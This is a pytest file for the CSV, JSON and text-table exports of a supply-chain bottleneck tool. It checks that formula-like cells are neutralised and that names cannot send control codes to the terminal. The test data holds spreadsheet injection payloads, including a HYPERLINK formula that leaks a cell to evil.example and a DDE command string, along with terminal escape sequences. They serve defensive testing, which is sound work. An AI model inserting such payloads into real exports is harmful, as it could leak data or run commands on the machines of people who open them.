"""CSV, JSON and the plain-text table: round trip, formula guard, words."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chainmap.domain.findings import Bottlenecks, Cycle, SinglePoint, Structure
from chainmap.domain.formula_guard import unguarded
from chainmap.exports.plain_text import shown_width
from chainmap.exports.tables import bottlenecks_csv, bottlenecks_json, bottlenecks_table
from tests.exports.examples import HOSTILE_NAMES, empty_finding, handoff, row_finding, small_finding, unanalysed

HANDOFF_COLUMNS = ["rank", "supplier", "customer", "deliverable", "volume", "share", "basis", "ratings", "passes"]
HANDOFF_COLUMNS += ["returned", "yield", "flow", "lost", "lost_share", "recoverable", "recoverable_error"]
TOTALS = ["organization", "created", "delivered", "lost", "stranded", "chain_yield", "mean_yield"]
PARTY_FIELDS = ["id", "name", "kind", "team", "inflow", "reach", "dependence", "dependence_error"]


def read_csv(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def squeezed(line: str) -> str:
    return " ".join(line.split())


def with_deliverables(texts: list[str]) -> Bottlenecks:
    finding = small_finding()
    rows = [handoff(place, "ann", "ben", rank=place + 1, deliverable=text) for place, text in enumerate(texts)]
    return replace(finding, handoffs=rows)


class TestCsv:
    def test_columns_and_cells(self) -> None:
        content = bottlenecks_csv(small_finding())
        assert content.startswith(b"\xef\xbb\xbf")
        lines = content.decode("utf-8-sig").split("\r\n")
        assert lines[0].split(",") == HANDOFF_COLUMNS
        assert lines[1] == "1,ann,ben,plan,1.0,1.0,rated,4,,,0.5,1.0,0.5,0.5882352941176471,0.38,0.0"
        assert lines[2].startswith("2,ben,cli,goods,5.0,0.8333333333333334,measured,0,34,5,0.8,")
        # a text that begins like a formula is guarded; the empty rank says "assumed"
        assert lines[3].startswith(",ben,cli,'-2,1.0,")
        assert lines[4:] == [""]

    def test_negative_numbers_stay_numbers(self) -> None:
        finding = replace(small_finding(), handoffs=[replace(small_finding().handoffs[0], recoverable=-1e-17)])
        assert read_csv(bottlenecks_csv(finding))[0]["recoverable"] == "-1e-17"

    @pytest.mark.parametrize(
        "text",
        [
            *('=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|'/c calc'!A0", "+1", "-1", "@SUM(1)", "\t=1"),
            *("\r=1", "\n=1", "\0=1", "＝1", "＋1", "－1", "＠1", "'=1"),
        ],
    )
    def test_formula_gets_an_apostrophe(self, text: str) -> None:
        cell = read_csv(bottlenecks_csv(with_deliverables([text])))[0]["deliverable"]
        assert cell == "'" + text

    @pytest.mark.parametrize("text", ["", "plan", "O'Neill", "'tis", "a=b", "1-2", "'"])
    def test_other_text_is_untouched(self, text: str) -> None:
        assert read_csv(bottlenecks_csv(with_deliverables([text])))[0]["deliverable"] == text

    @settings(max_examples=40, deadline=None)
    @given(
        st.lists(
            st.text(st.characters(exclude_categories=["Cs"]), max_size=12)
            | st.text("'=+-@\t\r\n\0＝,\";a ", max_size=6),
            min_size=25,
            max_size=25,
        )
    )
    def test_round_trip_of_any_text(self, texts: list[str]) -> None:
        rows = read_csv(bottlenecks_csv(with_deliverables(texts)))
        assert [unguarded(row["deliverable"]) for row in rows] == texts
        assert not any(row["deliverable"][:1] in tuple("=+-@\t\r\n\0＝＋－＠") for row in rows)

    @settings(max_examples=50, deadline=None)
    @given(st.floats(allow_nan=False, allow_infinity=False))
    def test_numbers_are_written_exactly(self, number: float) -> None:
        finding = replace(small_finding(), handoffs=[replace(small_finding().handoffs[0], lost=number)])
        assert float(read_csv(bottlenecks_csv(finding))[0]["lost"]) == number
        assert json.loads(bottlenecks_json(finding))["handoffs"][0]["lost"] == number


class TestJson:
    def test_shape_and_order(self) -> None:
        document = json.loads(bottlenecks_json(small_finding()))
        assert list(document) == [*TOTALS, "handoffs", "parties"]
        assert list(document["handoffs"][0]) == HANDOFF_COLUMNS
        assert list(document["parties"][0]) == [*PARTY_FIELDS, "most_important_client"]

    def test_values(self) -> None:
        document = json.loads(bottlenecks_json(small_finding()))
        assert (document["organization"], document["delivered"]) == ("Müller & Co", 1.15)
        assert [h["rank"] for h in document["handoffs"]] == [1, 2, None]
        assert document["handoffs"][1] == {
            "rank": 2,
            "supplier": "ben",
            "customer": "cli",
            "deliverable": "goods",
            "volume": 5.0,
            "share": 5 / 6,
            "basis": "measured",
            "ratings": 0,
            "passes": 34,
            "returned": 5,
            "yield": 0.8,
            "flow": 1.25,
            "lost": 0.25,
            "lost_share": 0.25 / 0.85,
            "recoverable": 0.25,
            "recoverable_error": 0.01,
        }
        assert document["parties"][2]["kind"] == "end_customer"
        assert document["parties"][2]["most_important_client"] is None

    def test_unknown_is_null(self) -> None:
        document = json.loads(bottlenecks_json(unanalysed(small_finding())))
        assert document["delivered"] is None
        assert document["handoffs"][0]["yield"] is None
        assert document["parties"][0]["inflow"] is None

    @pytest.mark.parametrize("finding", [empty_finding(), row_finding(HOSTILE_NAMES)], ids=["empty", "hostile"])
    def test_is_json_whatever_the_names(self, finding: Bottlenecks) -> None:
        document = json.loads(bottlenecks_json(finding))
        assert len(document["handoffs"]) == len(finding.handoffs)
        expected = [party.name.replace("\ud800", "?") for party in finding.parties]
        assert [party["name"] for party in document["parties"]] == expected


class TestTable:
    def test_says_the_finding_first(self) -> None:
        lines = bottlenecks_table(small_finding()).splitlines()
        assert lines[0] == (
            "Of every 100 units of work (person-equivalents) this organization creates, 57 reach the end customer."
        )
        assert lines[1] == "43 are lost at hand-offs."
        assert squeezed(lines[3]) == "# from to deliverable arrives lost of all lost repair brings based on"
        assert squeezed(lines[4]) == "1 Ann Ben plan 50 % 0.50 59 % +0.38 4 answers"
        assert squeezed(lines[5]) == "2 Ben Client goods 80 % 0.25 29 % +0.25 ±0.01 34 passes, 5 returned"

    def test_says_what_is_only_assumed(self) -> None:
        text = bottlenecks_table(small_finding())
        assert "1 of 3 hand-offs is only assumed to be average: nobody has rated it." in text
        assert "Ask first what arrives between Ben and Client (-2)." in text

    def test_says_what_to_repair_and_how_sure_that_is(self) -> None:
        text = bottlenecks_table(small_finding())
        assert "Most can be won back between Ann and Ben (plan)" in text
        assert "19 more would reach the end customer. Likely (4 answers)." in text

    def test_columns_stand_below_each_other(self) -> None:
        lines = bottlenecks_table(row_finding([*HOSTILE_NAMES, "Ann"]), top=None, width=90).splitlines()
        rows = [line for line in lines if line.endswith("1 answer")]
        assert len(rows) == len(HOSTILE_NAMES) + 1
        assert {shown_width(line) for line in rows} == {shown_width(rows[0])}
        assert shown_width(rows[0]) <= 90

    def test_no_name_can_control_the_terminal(self) -> None:
        text = bottlenecks_table(row_finding(HOSTILE_NAMES, organization="\x1b]0;x\x07"), top=None)
        assert not any(ord(character) < 32 and character != "\n" for character in text)
        assert not set(text) & set("\u202e\u200b\ufeff\ud800\x7f\x9b")

    def test_top(self) -> None:
        finding = row_finding([f"Person {number}" for number in range(30)])
        assert bottlenecks_table(finding).count("1 answer\n") == 10
        assert "20 more hand-offs are not listed here." in bottlenecks_table(finding)
        assert bottlenecks_table(finding, top=None).count("1 answer\n") == 30

    def test_without_ratings_the_shape_and_the_next_step(self) -> None:
        structure = Structure(
            dead_ends=("ann",),
            customers_without_supplier=("cli",),
            cycles=(Cycle(("ann", "ben"), None),),
            single_points=(SinglePoint("ben", ("ann",), None),),
        )
        text = bottlenecks_table(unanalysed(small_finding(), structure))
        assert text.startswith("No ratings yet")
        assert "The work of 1 has no way to an end customer: Ann." in text
        assert "1 end customer receives nothing: Client." in text
        assert "loop of 2: Ann, Ben." in text
        assert "Everything that 1 other does for end customers goes through Ben." in text
        assert "Next step: ask those who receive work" in text
        assert "%" not in text

    def test_empty_chain(self) -> None:
        text = bottlenecks_table(empty_finding())
        assert text.startswith("There is no chain yet")
        assert "Next step" in text
